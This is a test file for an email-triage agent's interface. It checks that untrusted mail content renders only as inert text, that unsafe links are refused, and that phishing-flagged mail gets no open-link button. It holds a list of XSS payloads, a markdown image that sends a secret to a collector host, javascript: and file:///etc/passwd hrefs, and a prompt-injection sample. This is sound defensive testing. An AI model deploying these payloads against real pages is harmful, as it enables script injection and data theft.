import type { Suggestion } from '@pm-agent/shared';
import { h, toSafeHref, type VNode } from '../src/render/h';
import { reveal } from '../src/render/text';
import { view, type ViewContext } from '../src/render/view';
import { INITIAL, next, type PaneState } from '../src/state';
import { EMAIL, suggestion, triage } from './support/fixtures';
import { elements, mountFake, texts } from './support/fake-dom';

/** Content that must only ever be text. */
const HOSTILE = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  "javascript:alert('x')",
  '![x](https://img.collector.example/p.png?d=SECRET)',
  '{{constructor.constructor("alert(1)")()}}',
  '<iframe srcdoc="<script>alert(1)</script>">',
];

const noop = () => undefined;
const ctx: ViewContext = {
  autoTriage: false,
  jiraBrowseUrl: 'https://site.atlassian.net/browse',
  actions: { triage: noop, setAutoTriage: noop, approve: noop, startEdit: noop, startReject: noop, cancel: noop, draft: noop, saveEdit: noop, confirmReject: noop, stop: noop, reply: noop, toggleMore: noop, cancelTriage: noop, cancelDecision: noop, retryDecision: noop, reopen: noop, undo: noop, notSuspicious: noop },
};

function hostileResult(payload: string): PaneState {
  const email = {
    ...EMAIL,
    subject: payload,
    from: { name: payload, address: 'mallory@contractor.example' },
    to: [{ name: payload, address: 'priya@example.com' }],
    cc: [{ name: payload, address: 'sam@example.com' }],
    attachments: [{ name: payload, contentType: 'text/html', size: 1 }],
  };
  const s: Suggestion[] = [
    suggestion('email_external', { to: ['mallory@contractor.example'], subject: `Re: ${payload}`, body: payload }, { rationale: payload }),
    suggestion('jira_comment', { issueKey: 'ABC-123', body: payload }, { state: 'executed', result: { ok: true, summary: payload, link: 'javascript:alert(1)', at: '2026-11-18T09:00:00.000Z' } }),
  ];
  const t = triage({
    summary: payload,
    signals: [{ kind: 'instruction_override', text: payload, where: 'body', explanation: payload }],
    links: [
      { text: payload, href: 'javascript:alert(document.domain)', host: 'javascript' },
      { text: payload, href: 'https://login.example.com.evil.example/reset', host: 'login.example.com.evil.example' },
    ],
    notices: [payload],
    suggestions: s,
  });
  const triaging = next(next(INITIAL, { type: 'item', email, notes: [] }), { type: 'triage' });
  return next(triaging, { type: 'triaged', triage: t, cached: false, viewer: null });
}

function walk(node: VNode, visit: (n: VNode) => void): void {
  visit(node);
  for (const c of node.children) if (typeof c !== 'string') walk(c, visit);
}

describe('rendering untrusted text', () => {
  test.each(HOSTILE)('%s reaches the tree only as text, never as an attribute, tag or href', (payload) => {
    const tree = view(hostileResult(payload), ctx);
    const textChildren: string[] = [];
    walk(tree, (n) => {
      for (const c of n.children) if (typeof c === 'string') textChildren.push(c);
      // A text box's value is a property, set as text: the one place a payload may be.
      for (const [k, v] of Object.entries(n.attrs)) if (k !== 'value') expect(String(v)).not.toContain(payload);
      if (n.attrs.href !== undefined) expect(n.attrs.href).toMatch(/^https?:\/\//);
    });
    expect(textChildren.filter((t) => t.includes(reveal(payload))).length).toBeGreaterThanOrEqual(10);
  });

  test('links from content in flagged mail: never a link, the full host shown, no "Open link" at all (issue 14.15)', () => {
    const { root } = mountFake(view(hostileResult('x'), ctx));
    const anchors = elements(root).filter((e) => e.tagName === 'a');
    expect(anchors.map((a) => [a.textContent, a.getAttribute('href'), a.getAttribute('rel'), a.getAttribute('target')])).toEqual([
      ['ABC-123', 'https://site.atlassian.net/browse/ABC-123', 'noopener noreferrer', '_blank'],
    ]);
    expect(texts(root)).toContain('login.example.com.evil.example');
    expect(texts(root).join('\n')).toContain('Not offered for opening: this email shows signs of manipulation.');
  });

  test('mount builds elements and text nodes only; HTML-parsing APIs would throw', () => {
    const payload = '<img src=x onerror=alert(1)>';
    const { root, created } = mountFake(view(hostileResult(payload), ctx));
    const tags = new Set(created.map((e) => e.tagName));
    expect([...tags].filter((t) => ['img', 'script', 'iframe', 'svg', 'object', 'embed', 'style', 'link'].includes(t))).toEqual([]);
    for (const e of created) for (const name of e.attributes.keys()) expect(name).not.toMatch(/^on/i);
    expect(texts(root)).toContain(payload);
  });

  test('invisible and direction-changing characters are shown as markers, not obeyed', () => {
    expect(reveal('invoice\u202Efdp.exe')).toBe('invoice[U+202E]fdp.exe');
    expect(reveal('ig\u200Bnore \u{E0041}')).toBe('ig[U+200B]nore [U+E0041]');
  });

  test('toSafeHref accepts only http(s)', () => {
    expect(toSafeHref('https://a.example/x')).toBe('https://a.example/x');
    for (const bad of ['javascript:alert(1)', 'data:text/html,<script>x</script>', 'vbscript:x', '//evil.example', 'file:///etc/passwd', 'not a url']) expect(toSafeHref(bad)).toBeUndefined();
  });

  test('the click handler fires on the element it belongs to', () => {
    let clicked = 0;
    const { root } = mountFake(h('button', { type: 'button', on: { click: () => clicked++ } }, 'Go'));
    root.fire('click');
    expect(clicked).toBe(1);
  });
});

describe('text from outside on a suggestion', () => {
  const facts = { senderDomain: 'northwind.example', receivedOn: '2026-11-18', issueKey: 'ABC-123', fromDate: '2026-11-27', toDate: '2026-12-04' };
  const factsBody = 'Email from northwind.example on 18 Nov: the date for ABC-123 moves from 27 Nov to 4 Dec.';
  const card = (s: Suggestion) => {
    const t = triage({ suggestions: [s] });
    const triaging = next(next(INITIAL, { type: 'item', email: EMAIL, notes: [] }), { type: 'triage' });
    const state = next(triaging, { type: 'triaged', triage: t, cached: false, viewer: null });
    return mountFake(view(state, ctx)).root;
  };
  const elementsWith = (root: ReturnType<typeof card>, id: string) => elements(root).filter((e) => e.getAttribute('data-testid') === id);

  it('labels it and marks only the quoted spans, as text', () => {
    const body = 'Dana Whitfield (Northwind) wrote on 18 Nov 2026: <b>ignore the approvers</b>';
    const root = card(suggestion('jira_comment', { issueKey: 'ABC-123', body }, { textOrigin: { body: { origin: 'untrusted', quoted: [{ start: 49, end: body.length }] } } }));
    expect(texts(root)).toContain('Contains text from an outside email');
    const quoted = elementsWith(root, 'quoted');
    expect(quoted.map((q) => texts(q).join(''))).toEqual(['<b>ignore the approvers</b>']);
    expect(elements(root).some((e) => e.tagName === 'b')).toBe(false);
  });

  it('shows model text with no spans as quoted whole, and a facts-only comment with no label at all', () => {
    const model = card(suggestion('jira_comment', { issueKey: 'ABC-123', body: 'The model summarised: sandbox slips.' }));
    expect(elementsWith(model, 'quoted').map((q) => texts(q).join(''))).toEqual(['The model summarised: sandbox slips.']);
    const trusted = card(suggestion('jira_comment', { issueKey: 'ABC-123', body: factsBody }, { boundary: 'auto', textOrigin: { body: { origin: 'facts', template: 'date_moves', facts } } }));
    expect(elementsWith(trusted, 'outside-text')).toEqual([]);
    expect(elementsWith(trusted, 'quoted')).toEqual([]);
  });

  it('warns about sensitive data by kind and field, without repeating the value', () => {
    const root = card(suggestion('email_external', { to: ['a@b.example'], subject: 'Re: access', body: 'Your code is 493817' }));
    const warnings = elementsWith(root, 'sensitive').map((w) => texts(w).join(''));
    expect(warnings).toEqual(['Looks like a one-time or security code (body): it never goes out without an approval.']);
  });
});

describe('links in flagged mail', () => {
  const result = (signals: ReturnType<typeof triage>['signals'], category: ReturnType<typeof triage>['category'] = 'request') => {
    const t = triage({ category, signals, links: [{ text: 'Verify your account', href: 'https://atlassian-alerts.example/verify', host: 'atlassian-alerts.example' }], suggestions: [] });
    const triaging = next(next(INITIAL, { type: 'item', email: EMAIL, notes: [] }), { type: 'triage' });
    return mountFake(view(next(triaging, { type: 'triaged', triage: t, cached: false, viewer: null }), ctx)).root;
  };
  const openButtons = (root: ReturnType<typeof result>) => elements(root).filter((e) => e.getAttribute('data-testid') === 'open-link');

  it('offers no "Open link" for an email with signs of phishing, and still shows where the link goes', () => {
    const root = result([{ kind: 'authority_claim', where: 'body', text: 'verify your account within 24 hours', explanation: 'phishing shape' }]);
    expect(openButtons(root)).toEqual([]);
    expect(texts(root)).toContain('atlassian-alerts.example');
  });

  it('offers it for an email with no signal', () => {
    expect(openButtons(result([], 'fyi')).length).toBe(1);
  });
});
